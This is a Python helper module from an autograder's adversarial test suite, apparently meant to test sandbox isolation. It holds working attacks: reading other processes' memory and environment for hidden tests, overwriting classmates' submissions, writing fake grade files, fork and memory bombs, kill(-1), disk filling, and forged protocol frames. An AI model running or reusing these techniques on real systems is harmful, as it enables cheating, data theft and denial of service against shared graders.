"""The attacks every cheat in tests/adversarial shares (copied next to each cheat's module).

A cheat is a student's submission folder: ``<assignment>.py`` (the cheat), ``_honest.py`` (a
copy of the reference solution, for the functions where the cheat should still earn its
points), this file, and ``adversarial.json``, which tells the attacks what a determined student
could find out anyway: a marker unique to the test run, the port of a listener the test opens
on 127.0.0.1, and the real paths of the grader's checkout, the submissions folder and the
output folder.

Every ``steal_*``/``reach_*`` attack returns True only if it got something it should not have;
a cheat then returns the right answer, so a successful attack shows up as points that its
honest outputs do not earn. The other attacks (processes, memory, output, exits) try to break
the batch, and the test checks what they leave behind.
"""

import json
import os
import signal
import socket
import struct
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
ASSIGNMENT = os.path.basename(__file__)  # replaced below, once settings are read
_SETTINGS = None

# Assembled at run time, so that these words are not in this process's own memory as one string
# before an attack finds them elsewhere.
HIDDEN_NEEDLE = "".join(["Hidden grading", " tests: "])
SOLUTION_NEEDLE = "".join(["Reference ", "solution"])
SECRET_ENV = "ADVERSARIAL_SECRET"


def settings() -> dict:
    global _SETTINGS
    if _SETTINGS is None:
        try:
            with open(os.path.join(HERE, "adversarial.json")) as f:
                _SETTINGS = json.load(f)
        except (OSError, ValueError):
            _SETTINGS = {}
    return _SETTINGS


def marker(suffix: str = "") -> str:
    return settings().get("marker", "advsuite-unknown") + (f"-{suffix}" if suffix else "")


def own_pid() -> int:
    """This process's pid as /proc numbers it: in a pre-warmed sandbox's child, which is PID 1
    of a namespace of its own, os.getpid() is 1 while /proc shows the sandbox's numbering."""
    try:
        return int(os.readlink("/proc/self"))
    except (OSError, ValueError):
        return os.getpid()


def sandboxed() -> bool:
    """Whether this runs in one of the grader's sandboxes (bubblewrap's PID namespace, or the user
    mode's uid). The attacks that write, fork or signal stay off anywhere else: run unsandboxed
    (as root, say), kill(-1) would reach every process on the machine."""
    if 200_000 <= os.getuid() < 300_000:
        return True
    if os.getuid() == 65534 and os.path.isfile("/grader/worker.py"):  # the worker's files, bound by bwrap
        return True
    return os.path.basename(_read_text("/proc/1/cmdline").split("\0")[0]) == "bwrap"


def _mine(path: str) -> bool:
    """This cheat's own files (its _honest.py is a copy of the reference: finding it is no theft)."""
    try:
        real = os.path.realpath(path)
    except OSError:
        return True
    return real == HERE or real.startswith(HERE + os.sep) or real.startswith("/submission")


def _read_text(path: str, limit: int = 1 << 20) -> str:
    try:
        with open(path, "rb") as f:
            return f.read(limit).decode("utf-8", errors="replace")
    except OSError:
        return ""


def _listdir(folder: str) -> list:
    try:
        return os.listdir(folder)
    except OSError:
        return []


def _is_secret(text: str) -> bool:
    return HIDDEN_NEEDLE in text or SOLUTION_NEEDLE in text


# ------------------------------------------------------------------------- reading secrets


def candidate_roots() -> list:
    """Where the grader's checkout or the hidden tests might be: known and guessed paths, every
    process's working folder and root, and the folders above this one."""
    s = settings()
    roots = [s.get("repo"), s.get("cohort"), s.get("outdir"), "/work/main", "/autograder", "/autograder/source",
             "/autograder/source/autograder", os.path.expanduser("~"), "/root", "/home", "/srv", "/opt", "/tmp",
             os.getcwd(), os.path.dirname(HERE), os.path.dirname(os.path.dirname(HERE))]
    try:
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pids = []
    for pid in ["self", str(os.getppid()), *pids]:
        for link in ("cwd", "root", "exe"):
            try:
                roots.append(os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
        cmdline = _read_text(f"/proc/{pid}/cmdline").split("\0")
        roots += [arg for arg in cmdline if arg.startswith("/")]
    seen, result = set(), []
    for root in roots:
        if root and root not in seen:
            seen.add(root)
            result.append(root)
    return result


def _secret_files(assignment: str) -> list:
    return [os.path.join("autograder", "hidden", f"test_{assignment}.py"),
            os.path.join("solutions", assignment, f"{assignment}.py"),
            os.path.join("hidden", f"test_{assignment}.py"),
            f"test_{assignment}.py", f"{assignment}.py"]


def steal_from_disk(assignment: str, budget_s: float = 2.0) -> bool:
    """Guessed paths below every candidate root and its parents, then a walk of / (bounded)."""
    for root in candidate_roots():
        path = root
        for _ in range(6):
            for relative in _secret_files(assignment):
                candidate = os.path.join(path, relative)
                if not _mine(candidate) and _is_secret(_read_text(candidate)):
                    return True
            path = os.path.dirname(path)
    deadline = time.monotonic() + budget_s
    wanted = {f"test_{assignment}.py", f"{assignment}.py"}
    for folder, dirs, files in os.walk("/", onerror=lambda error: None):
        dirs[:] = [d for d in dirs if os.path.join(folder, d) not in ("/proc", "/sys", "/dev")]
        for name in wanted.intersection(files):
            candidate = os.path.join(folder, name)
            if not _mine(candidate) and _is_secret(_read_text(candidate)):
                return True
        if time.monotonic() > deadline:
            break
    return False


def steal_from_environment() -> bool:
    """The grader's environment: this process's, and every other process's /proc/<pid>/environ."""
    if SECRET_ENV in os.environ or any(k.startswith("AUTOGRADER") for k in os.environ):
        return True
    wanted = SECRET_ENV.encode()
    for pid in [os.getppid(), 1, *[int(p) for p in os.listdir("/proc") if p.isdigit()]]:
        if pid in (own_pid(), os.getpid()):
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                if wanted in f.read():
                    return True
        except OSError:
            pass
    return False


def steal_from_memory(max_bytes: int = 64 << 20) -> bool:
    """Other processes' memory (/proc/<pid>/mem, the parent first) and command lines."""
    me = own_pid()
    pids = [os.getppid(), 1]
    try:
        pids += [int(p) for p in os.listdir("/proc") if p.isdigit()]
    except OSError:
        pass
    needles = [HIDDEN_NEEDLE.encode(), SOLUTION_NEEDLE.encode(), SECRET_ENV.encode()]
    for pid in dict.fromkeys(pids):
        if pid == me:
            continue
        try:  # a command line or an environment that holds a secret (a path alone is no secret)
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                exposed = f.read(1 << 20)
            with open(f"/proc/{pid}/environ", "rb") as f:
                exposed += f.read(1 << 20)
        except OSError:
            exposed = b""
        if any(n in exposed for n in needles):
            return True
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
        except OSError:
            continue
        read = 0
        with mem:
            for line in maps:
                fields = line.split()
                if len(fields) < 2 or "r" not in fields[1]:
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                size = min(end - start, max_bytes - read)
                if size <= 0:
                    break
                try:
                    mem.seek(start)
                    chunk = mem.read(size)
                except (OSError, OverflowError, ValueError):
                    continue
                read += len(chunk)
                if any(n in chunk for n in needles):
                    return True
    return False


# ------------------------------------------------------------------------- writing where it should not


FAKE_RESULTS = {
    "results.json": lambda m: json.dumps({"score": 100, "tests": [], "output": m}),
    "gradebook.csv": lambda m: f"student,score,max_score,percent,status\n{m},100,100,100.0,graded\n",
    "gradebook.sqlite": lambda m: f"SQLite format 3\0{m}",
}


def write_everywhere() -> list:
    """Fake results files and marker files in every folder that could matter; returns where it wrote."""
    if not sandboxed():
        return []
    s = settings()
    m = marker("written")
    folders = [".", "..", "/tmp", "/", os.path.expanduser("~"), s.get("repo"), s.get("outdir"), s.get("cohort"),
               s.get("repo") and os.path.join(s["repo"], "autograder"), "/autograder/results", "/autograder"]
    for arg in _read_text("/proc/1/cmdline").split("\0"):  # bwrap names the host folders it binds
        if arg.startswith("/tmp/"):
            folders += [arg, os.path.dirname(arg)]
    wrote = []
    for folder in folders:
        if not folder:
            continue
        for name, content in [*FAKE_RESULTS.items(), (m, lambda x: x)]:
            path = os.path.join(folder, name)
            try:
                with open(path, "w") as f:
                    f.write(content(m))
                wrote.append(path)
            except OSError:
                pass
    return wrote


def tamper_with_classmates(assignment: str, own_name: str) -> int:
    """Overwrite every other student's module it can find: in the submissions folder, and in the
    private copies of concurrently graded submissions; returns how many it changed."""
    if not sandboxed():
        return 0
    s = settings()
    places = [s.get("cohort"), os.path.dirname(HERE), os.path.dirname(os.path.dirname(HERE))]
    places += [os.path.join("/tmp", name) for name in _listdir("/tmp") if name.startswith("autograder-")]
    for arg in _read_text("/proc/1/cmdline").split("\0"):
        if arg.startswith("/tmp/"):
            places += [os.path.dirname(arg), os.path.dirname(os.path.dirname(arg))]
    changed = 0
    for place in dict.fromkeys(p for p in places if p):
        try:
            entries = os.listdir(place)
        except OSError:
            continue
        for entry in entries:
            if entry == own_name:
                continue
            for candidate in (os.path.join(place, entry, f"{assignment}.py"), os.path.join(place, entry)):
                if _mine(candidate) or not candidate.endswith(f"{assignment}.py") or not os.path.isfile(candidate):
                    continue
                try:
                    with open(candidate, "w") as f:
                        f.write(f"raise SystemExit('{marker('tampered')}')\n")
                    changed += 1
                except OSError:
                    pass
    return changed


# ------------------------------------------------------------------------- network


def reach_network() -> bool:
    """An external address, and the listener the test opened on the host's 127.0.0.1."""
    targets = [("1.1.1.1", 53), ("8.8.8.8", 53), ("10.255.255.1", 80)]
    port = settings().get("port")
    if port:
        targets.insert(0, ("127.0.0.1", int(port)))
    for address in targets:
        try:
            with socket.create_connection(address, timeout=1) as connection:
                connection.sendall(marker("connected").encode())
                return True
        except OSError:
            pass
    return False


# ------------------------------------------------------------------------- processes and resources


def leave_processes_behind() -> None:
    """A child in its own session, and a double-forked daemon writing a heartbeat every 0.1 s."""
    if not sandboxed():
        return
    subprocess.Popen([sys.executable, "-c", "import time\nwhile True: time.sleep(1)", marker("popen")],
                     start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                     stderr=subprocess.DEVNULL)
    beats = [os.path.join(HERE, "heartbeat"), f"/tmp/{marker('heartbeat')}"]
    daemon = ("import sys, time\n"
              "while True:\n"
              "    for path in sys.argv[2:]:\n"
              "        try:\n"
              "            open(path, 'a').write('x')\n"
              "        except OSError:\n"
              "            pass\n"
              "    time.sleep(0.1)\n")
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", daemon, marker("daemon"), *beats])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)


def fork_bomb(count: int = 500) -> int:
    """Up to ``count`` processes, each sleeping (``sleep`` with the marker as its name)."""
    started = 0
    if not sandboxed():
        return started
    for _ in range(count):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.execv("/usr/bin/sleep", [marker("forkbomb"), "1000"])
            finally:
                os._exit(0)
        started += 1
    return started


def memory_fork_bomb(children: int = 10, each_bytes: int = 500 << 20) -> None:
    """Each child stays under the per-process memory limit; together they would hold 5 GB."""
    if not sandboxed():
        return
    hoard = f"hoard = b'\\x01' * {each_bytes}\nimport time\ntime.sleep(1000)\n"
    for _ in range(children):
        try:
            subprocess.Popen([sys.executable, "-c", hoard, marker("memhog")], stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except OSError:
            break
    time.sleep(2)  # let them fill up


def allocate(total_bytes: int = 6 << 30) -> None:
    """One 6 GB allocation (more than the sandbox's address-space limit)."""
    hoard = bytearray(total_bytes)
    hoard[::4096] = b"\x01" * len(range(0, total_bytes, 4096))


def fill_storage(per_place: int = 1 << 30, flag_above: int = 0) -> int:
    """Up to 1 GB of files in each writable place: /dev/shm, /tmp and / (tmpfs: the host's memory
    under bubblewrap), then its own folder (the host's disk): 4 GB at most, in files of 32 MB
    (under the per-file size limit). Once more than ``flag_above`` bytes got through, it leaves
    a file named "filled" in its folder (a later call, in a fresh process, will see it). Returns
    how much it wrote."""
    if not sandboxed():
        return 0
    chunk = b"\x01" * (32 << 20)
    total = 0
    for place in ("/dev/shm", "/tmp", "/", HERE):
        written = 0
        while written < per_place:
            try:
                with open(os.path.join(place, f"{marker('fill')}-{written >> 25}"), "wb") as f:
                    f.write(chunk)
            except OSError:
                break
            written += len(chunk)
            total += len(chunk)
            if flag_above and total > flag_above and not os.path.exists(os.path.join(HERE, "filled")):
                open(os.path.join(HERE, "filled"), "w").close()
    return total


def flood(total_bytes: int = 200 << 20) -> None:
    """200 MB to stdout and 200 MB to stderr, through print and the raw descriptors."""
    chunk = "y" * (1 << 20)
    for _ in range(total_bytes >> 21):
        for write in (lambda: print(chunk, end=""), lambda: print(chunk, end="", file=sys.stderr),
                      lambda: os.write(1, chunk.encode()), lambda: os.write(2, chunk.encode())):
            try:
                write()
            except OSError:
                pass


def kill_everything() -> None:
    """Signal every process it may: stop them all, kill them all, kill its parent, then its own
    process group (which ends this call)."""
    if not sandboxed():
        return
    targets = ((-1, signal.SIGSTOP), (-1, signal.SIGKILL), (os.getppid(), signal.SIGKILL), (1, signal.SIGKILL))
    for target, sig in targets:
        try:
            os.kill(target, sig)
        except OSError:
            pass
    os.killpg(0, signal.SIGKILL)


# ------------------------------------------------------------------------- the pipe to the grader


def _response_fd():
    """The worker's private descriptor for replies, found on the call stack."""
    frame = sys._getframe()
    while frame is not None:
        if "responses" in frame.f_locals and isinstance(frame.f_locals["responses"], int):
            return frame.f_locals["responses"]
        frame = frame.f_back
    return None


def forge_frame(kind: int) -> None:
    """Write a malformed reply straight into the pipe: an oversized header, an array whose size
    overflows, or a header nested too deeply for a JSON parser."""
    fd = _response_fd()
    if fd is None:
        return
    if kind == 0:
        data = struct.pack(">I", 0xFFFFFFF0)
    else:
        if kind == 1:
            value = {"t": "ndarray", "dtype": "<f8", "shape": [2 ** 70, 2 ** 70], "blob": 0}
            header = {"id": 1, "status": "ok", "value": value, "blob_sizes": [0]}
            text = json.dumps(header)
        else:
            text = '{"id": 1, "status": "ok", "value": ' + "[" * 200_000 + "]" * 200_000 + ', "blob_sizes": []}'
        body = text.encode()
        data = struct.pack(">I", len(body)) + body
    # Forge the next ids too: the grader skips replies to other calls.
    for _ in range(3):
        os.write(fd, data)


def next_count(name: str) -> int:
    """A counter that survives the child being killed and restarted (a file in the submission)."""
    path = os.path.join(HERE, f".count-{name}")
    try:
        count = int(open(path).read())
    except (OSError, ValueError):
        count = 0
    try:
        with open(path, "w") as f:
            f.write(str(count + 1))
    except OSError:
        pass
    return count


# ------------------------------------------------------------------------- Keras configs (model assignments)


def pwned_path(variant: str) -> str:
    """Where code smuggled into a model's config would leave its mark, if it ever ran in the grader."""
    return f"/tmp/{marker('pwned-' + variant)}"


def host_folder_of_submission() -> str:
    """The host's path of this folder: bubblewrap's command line names the folder it binds."""
    args = _read_text("/proc/1/cmdline").split("\0")
    for index, arg in enumerate(args):
        if arg == "/submission" and index >= 2 and args[index - 2] == "--bind":
            return args[index - 1]
    return HERE


def config_of(model) -> dict:
    import keras

    return json.loads(json.dumps(keras.saving.serialize_keras_object(model)))


def send_config(config, type_name: str = "Sequential"):
    """Return a decoy model from build_x(): the worker sends ``config`` (a dict, or any text) as
    its serialized config. The worker's protocol module is the student's to patch, like
    everything else in the sandbox."""
    import keras

    protocol = sys.modules["protocol"]
    decoy = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2)], name="decoy")
    real = protocol._encode_keras_model
    text = config if isinstance(config, str) else json.dumps(config)

    def forged(model):
        if model is decoy:
            return {"t": "keras_model", "config": text, "type": type_name}
        return real(model)

    protocol._encode_keras_model = forged
    return decoy


def layers_of(config: dict) -> list:
    """The layer configs of a serialized Sequential model."""
    return config["config"]["layers"]
